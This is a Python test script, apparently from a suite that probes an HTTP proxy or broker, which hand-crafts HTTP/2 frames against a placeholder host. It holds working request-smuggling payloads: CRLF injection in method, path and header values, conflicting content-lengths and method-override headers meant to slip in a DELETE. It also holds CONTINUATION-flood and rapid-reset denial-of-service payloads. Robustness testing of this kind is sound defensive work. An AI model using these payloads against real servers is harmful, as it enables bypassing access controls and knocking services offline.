#!/usr/bin/env python3
"""HTTP/2 by hand: pseudo headers that contradict, line ends in values, lengths that lie; the broker sends HTTP/1.1 or HTTP/2 on."""
import socket, ssl, sys
sys.path.insert(0, sys.path[0] + "/lib")
from escape import *

control()
HOST = "allowed.example"


def block(pairs):
    out = b""
    for name, value in pairs:
        name, value = name.encode("latin1"), value.encode("latin1")
        # Literal without indexing, no Huffman (RFC 7541, 6.2.2); lengths below 127.
        out += b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return out


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(pairs, body=b"", ends=True):
    head = frame(1, 4 | (0 if body else 1), 1, block(pairs))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + head + (frame(0, 1 if ends else 0, 1, body) if body else b"")


base = [(":method", "POST"), (":scheme", "https"), (":authority", HOST), (":path", "/note")]
inner = b"DELETE /v HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n" % HOST.encode()
swap = lambda name, value: [(k, value if k == name else v) for k, v in base]
tries = {
    "other :authority": swap(":authority", "elsewhere.example")[1:] + [(":method", "DELETE")],
    "two :method": base + [(":method", "DELETE")],
    "two :path": base + [(":path", "/v")],
    ":method after headers": base[1:] + [("a", "b"), (":method", "DELETE")],
    "method with a line end": swap(":method", "GET /v HTTP/1.1\r\nX: y"),
    "method DELETE": swap(":method", "DELETE"),
    "path with a line end": swap(":path", "/a HTTP/1.1\r\nHost: x\r\n\r\nDELETE /v"),
    "path with a space": swap(":path", "/a HTTP/1.1 DELETE"),
    "value with a line end": base + [("x", "y\r\nX-HTTP-Method-Override: DELETE")],
    "value with a bare LF": base + [("x", "y\nX-HTTP-Method-Override: DELETE")],
    "name with a colon": base + [("x-http-method-override: delete\r\na", "b")],
    "upper-case name": base + [("X-HTTP-Method-Override", "DELETE")],
    "override": base + [("x-http-method-override", "DELETE")],
    "transfer-encoding": base + [("transfer-encoding", "chunked")],
    "connection": base + [("connection", "close")],
    "host differs": base + [("host", "elsewhere.example"), ("x-http-method-override", "DELETE")],
    ":protocol websocket": [(":method", "CONNECT"), (":protocol", "websocket")] + base[1:],
    ":scheme http": swap(":scheme", "http")[1:] + [(":method", "DELETE")],
    "content-length 0 with a body": base + [("content-length", "0")],
    "content-length too long": base + [("content-length", "9999")],
    "two content-lengths": base + [("content-length", "0"), ("content-length", str(len(inner)))],
}
for name, pairs in tries.items():
    with_body = any(word in name for word in ("length", "transfer"))
    try:
        answer = talk(request(pairs, inner if with_body else b""), HOST, 443, tls="h2")
    except (OSError, ssl.SSLError) as error:
        answer = repr(error).encode()
    survived(name)
    print("%-32s %r" % (name, answer[-60:]), file=sys.stderr)
# A flood of CONTINUATION frames and one of resets: the broker answers others all the same.
flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 0, 1, block(base)) + frame(9, 0, 1, block([("x", "y" * 100)])) * 20000
resets = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + b"".join(frame(1, 5, i, block(base)) + frame(3, 0, i, b"\0\0\0\x08") for i in range(1, 8000, 2))
for name, data in {"CONTINUATION flood": flood, "rapid reset": resets}.items():
    try:
        talk(data, HOST, 443, tls="h2")
    except (OSError, ssl.SSLError):
        pass
    survived(name)
end()
